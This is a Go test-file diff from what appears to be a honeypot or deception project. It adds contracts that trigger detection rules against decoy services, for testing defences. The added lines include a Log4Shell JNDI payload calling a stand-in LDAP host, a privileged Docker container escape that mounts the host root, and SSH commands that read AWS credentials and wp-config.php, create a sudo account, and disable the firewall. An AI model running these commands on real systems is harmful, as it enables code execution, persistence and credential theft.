@@ -19,6 +19,7 @@ import (
 
 	"github.com/decnet/decnet/internal/event"
 	"github.com/decnet/decnet/internal/intel/attack"
+	_ "github.com/decnet/decnet/internal/service/dockerapi"
 	_ "github.com/decnet/decnet/internal/service/http"
 	_ "github.com/decnet/decnet/internal/service/llmnr"
 	_ "github.com/decnet/decnet/internal/service/rdp"
@@ -108,6 +109,20 @@ var contracts = map[string]contract{
 		return r
 	},
 	"llmnr-poisoning": llmnrPoisoner,
+	"http-exploit-payload": func(t *testing.T) *servicetest.Running {
+		r := servicetest.Start(t, "http", 80, servicetest.Options{})
+		run(t, "curl", "-s", "-o", "/dev/null", "-A", "${jndi:ldap://198.51.100.20:1389/Basic/Command/Base64/aWQ=}",
+			"http://"+r.HostPort(80)+"/?q=1")
+		return r
+	},
+	"container-deploy":        dockerRun("alpine", "true"),
+	"container-escape":        dockerRun("--privileged", "-v", "/:/host", "alpine", "chroot", "/host"),
+	"account-discovery":       sshCommand("cat /etc/passwd"),
+	"create-account":          sshCommand("useradd -m -s /bin/bash -G sudo backup"),
+	"disable-firewall":        sshCommand("iptables -F; ufw disable"),
+	"credentials-in-files":    sshCommand("cat ~/.aws/credentials /var/www/html/wp-config.php"),
+	"remote-system-discovery": sshCommand("arp -a; cat /etc/hosts"),
+	"system-owner-discovery":  sshCommand("whoami"),
 }
 
 func TestEveryRuleHasAContract(t *testing.T) {
@@ -223,6 +238,22 @@ func redisSave(dir, file string) contract {
 		redisCLI(t, r, "CONFIG", "SET", "dir", dir)
 		redisCLI(t, r, "CONFIG", "SET", "dbfilename", file)
 		redisCLI(t, r, "SAVE")
+		return r
+	}
+}
+
+// dockerRun is docker run against the Docker API decky (the Docker CLI,
+// with a configuration of its own).
+func dockerRun(args ...string) contract {
+	return func(t *testing.T) *servicetest.Running {
+		bin := testenv.RequireTool(t, "docker")
+		r := servicetest.Start(t, "docker_api", 2375, servicetest.Options{})
+		ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+		defer cancel()
+		cmd := exec.CommandContext(ctx, bin, append([]string{"-H", "tcp://" + r.HostPort(2375), "run"}, args...)...)
+		cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+t.TempDir(), "DOCKER_HOST=", "DOCKER_CONTEXT=")
+		out, err := cmd.CombinedOutput()
+		t.Logf("docker run %s (%v):\n%s", strings.Join(args, " "), err, out)
 		return r
 	}
 }
